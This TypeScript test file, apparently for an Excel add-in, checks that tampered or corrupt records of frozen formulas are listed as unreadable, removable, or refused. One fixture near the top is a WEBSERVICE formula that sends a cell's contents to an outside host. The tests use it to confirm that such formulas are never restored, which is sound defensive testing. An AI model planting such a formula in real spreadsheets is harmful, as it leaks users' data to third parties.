/** Records of frozen formulas that someone damaged or made up in a shared file. */
import { forgetFrozen, freeze, frozen, unfreeze } from '../../../src/workbook';
import { ExcelWorkbook } from '../../../src/workbook/excel/excel-workbook';
import { ExcelModel } from '../support/excel-model';
import { installExcel } from '../support/mock-excel';

const FIGURE = '=FIN.METRIC("INFY","FY2024","sales")';
const OUTSIDE = '=WEBSERVICE("https://host/?"&A1)';
const BOTH = `${FIGURE}&WEBSERVICE(A1)`;

let model: ExcelModel;
let workbook: ExcelWorkbook;
let good: Record<string, unknown>;
let goodText: string;

/** Overview!A1 holds a frozen figure; `good` is its stored entry, with the record around it in `goodText`. */
beforeEach(async () => {
  model = new ExcelModel({ [FIGURE]: [[1234.5]], [BOTH]: [['1234.5x']] });
  installExcel(model);
  workbook = new ExcelWorkbook();
  await workbook.writeCells('Overview!A1', [[{ formula: FIGURE }]]);
  await freeze(workbook, 'workbook', () => new Date(0));
  const [key = ''] = await workbook.metadataKeys();
  goodText = (await workbook.readMetadata(key)) ?? '';
  good = (JSON.parse(goodText) as { entries: Record<string, Record<string, unknown>> }).entries['0'] ?? {};
});

/** A record whose one entry is the good one, of another cell and without its anchors, with these changes. */
const recordOf = (changes: Record<string, unknown>) =>
  JSON.stringify({
    version: 1,
    frozenAt: '2026-01-01T00:00:00.000Z',
    entries: { 0: { ...good, at: 'B2', area: 'B2', anchors: undefined, ...changes } },
  });

const BAD: readonly (readonly [what: string, text: () => string])[] = [
  ['is no JSON', () => '{'],
  ['is a number', () => '7'],
  ['is of another version', () => goodText.replace('"version":1', '"version":2')],
  ['has no entries', () => '{"version":1,"frozenAt":"2026-01-01T00:00:00.000Z"}'],
  ['has entries that are a text', () => '{"version":1,"frozenAt":"2026-01-01T00:00:00.000Z","entries":"abc"}'],
  ['has an entry that is null', () => '{"version":1,"frozenAt":"2026-01-01T00:00:00.000Z","entries":{"0":null}}'],
  ['has a time that is none', () => goodText.replace('1970-01-01T00:00:00.000Z', 'soon').replaceAll('A1', 'B2')],
  ['has a sheet that is no text', () => recordOf({ sheet: 5 })],
  ['has no sheet id', () => recordOf({ sheetId: undefined })],
  ['has a cell that is none', () => recordOf({ at: 'nowhere' })],
  ['has a cell that is an area', () => recordOf({ at: 'B2:C3', area: 'B2:C3' })],
  ['has an area that is none', () => recordOf({ area: 'ZZZZ99' })],
  ['has an area on another sheet', () => recordOf({ area: "'Five years'!B2" })],
  ['has an area that starts elsewhere', () => recordOf({ area: 'A1:C3' })],
  ['has an area of the whole sheet', () => recordOf({ at: 'A1', area: 'A1:XFD1048576' })],
  ['has a formula that is no text', () => recordOf({ formula: { toString: 1 } })],
  ['has a formula that is no formula', () => recordOf({ formula: 'FIN.METRIC(1)' })],
  ['has formats that are no table', () => recordOf({ numberFormats: 'General' })],
  ['has formats of another size', () => recordOf({ numberFormats: [['0', '0']] })],
];

test.each(BAD)('a record that %s is listed as unreadable and can be removed; the others unfreeze', async (_, text) => {
  await workbook.writeMetadata('freeze:2026-01-01T00:00:00.000Z:bad', text());
  const { formulas, unreadable } = await frozen(workbook);
  expect(formulas).toMatchObject([{ address: 'Overview!A1', formula: FIGURE, state: 'frozen' }]);
  expect(unreadable).toMatchObject([{ text: expect.any(String) as string }]);
  const { restored } = await unfreeze(workbook, 'all');
  expect(restored.map(({ address }) => address)).toEqual(['Overview!A1']);
  await forgetFrozen(
    workbook,
    unreadable.map(({ id }) => id),
  );
  expect(await frozen(workbook)).toEqual({ formulas: [], unreadable: [] });
  expect(await workbook.metadataKeys()).toEqual([]);
});

test('a bad entry is removed from its record without the good ones beside it', async () => {
  const entries = { 0: { ...good, at: 'B2', area: 'nowhere' }, 1: good };
  const [key = ''] = await workbook.metadataKeys();
  await workbook.writeMetadata(key, JSON.stringify({ ...(JSON.parse(goodText) as object), entries }));
  const { unreadable } = await frozen(workbook);
  await forgetFrozen(
    workbook,
    unreadable.map(({ id }) => id),
  );
  expect(await frozen(workbook)).toMatchObject({ formulas: [{ address: 'Overview!A1' }], unreadable: [] });
});

test.each([
  ['urn:spillway:metadata:freeze:%ZZ', '"{}"'],
  ['urn:spillway:metadata:freeze%3Aone', '{"not":"a text"}'],
  ['urn:spillway:metadata:freeze%3Atwo', '"{'],
])('a part named %s with the content %s is listed as unreadable and can be removed', async (namespace, content) => {
  model.parts.push({ id: '{bad}', xml: `<spillway xmlns="${namespace}">${content}</spillway>` });
  const { formulas, unreadable } = await frozen(workbook);
  expect([formulas.length, unreadable.length]).toEqual([1, 1]);
  await forgetFrozen(
    workbook,
    unreadable.map(({ id }) => id),
  );
  expect(model.parts).toHaveLength(1);
  expect(await frozen(workbook)).toMatchObject({ formulas: [{ address: 'Overview!A1' }], unreadable: [] });
});

test.each([OUTSIDE, BOTH, '=1+1'])('a stored %s is listed and never restored', async (formula) => {
  await workbook.writeMetadata('freeze:2026-01-01T00:00:00.000Z:other', recordOf({ formula, fingerprint: 'x' }));
  await workbook.writeMetadata('freeze:2026-01-02T00:00:00.000Z:same', recordOf({ formula, at: 'B3', area: 'B3' }));
  await workbook.writeCells('Overview!B3', [[1234.5]]);
  const { formulas } = await frozen(workbook);
  expect(formulas).toMatchObject([{ state: 'frozen' }, { formula, state: 'refused' }, { formula, state: 'refused' }]);
  const { restored, left } = await unfreeze(workbook, 'all');
  expect(restored.map(({ address }) => address)).toEqual(['Overview!A1']);
  const ids = left.map(({ id }) => id);
  expect((await unfreeze(workbook, ids, { overwrite: true })).restored).toEqual([]);
  expect((await workbook.readArea('Overview!B2:B3')).formulas.flat().join('')).toBe('');
  await forgetFrozen(workbook, ids);
  expect((await frozen(workbook)).formulas).toEqual([]);
});

test('a formula that would not be restored is not frozen, and the report names it', async () => {
  await workbook.writeCells('Overview!B2', [[{ formula: BOTH }]]);
  const report = await freeze(workbook, 'workbook');
  const refused = [{ address: 'Overview!B2', because: 'calls WEBSERVICE' }];
  expect(report).toEqual({ frozen: [], left: [], refused, changed: [] });
  expect((await workbook.readArea('Overview!B2')).formulas).toEqual([[BOTH]]);
});

test('a spill of more cells than are restored is not frozen', async () => {
  const sheet = { id: '{1}', name: 'Overview' };
  const spilled = { sheet, address: 'Overview!B2', formula: FIGURE, value: 1, spill: 'Overview!B2:XFD99' };
  const large = Object.create(workbook, {
    spillwayFormulas: { value: () => Promise.resolve([spilled]) },
    readAreas: { value: () => workbook.readAreas(['Overview!B2']) },
  }) as ExcelWorkbook;
  expect(await freeze(large, 'workbook')).toMatchObject({ frozen: [], refused: [{ because: 'fills too many cells' }] });
  expect(await workbook.metadataKeys()).toHaveLength(1);
});

test('an area that the workbook does not read is listed as unreadable; the others unfreeze', async () => {
  await workbook.writeMetadata('freeze:2026-01-01T00:00:00.000Z:far', recordOf({ at: 'B900', area: 'B900' }));
  const readAreas = (addresses: readonly string[]) =>
    addresses.some((address) => address.endsWith('B900'))
      ? Promise.reject(new Error('B900 is outside the sheet.'))
      : workbook.readAreas(addresses);
  const smaller = Object.create(workbook, { readAreas: { value: readAreas } }) as ExcelWorkbook;
  expect(await frozen(smaller)).toMatchObject({ formulas: [{ address: 'Overview!A1' }], unreadable: [{}] });
  expect((await unfreeze(smaller, 'all')).restored).toHaveLength(1);
});

test('a workbook that reads no area at all fails with its message', async () => {
  const busy = Object.create(workbook, {
    readAreas: { value: () => Promise.reject(new Error('A cell is being edited.')) },
  }) as ExcelWorkbook;
  await expect(frozen(busy)).rejects.toThrow('A cell is being edited.');
});
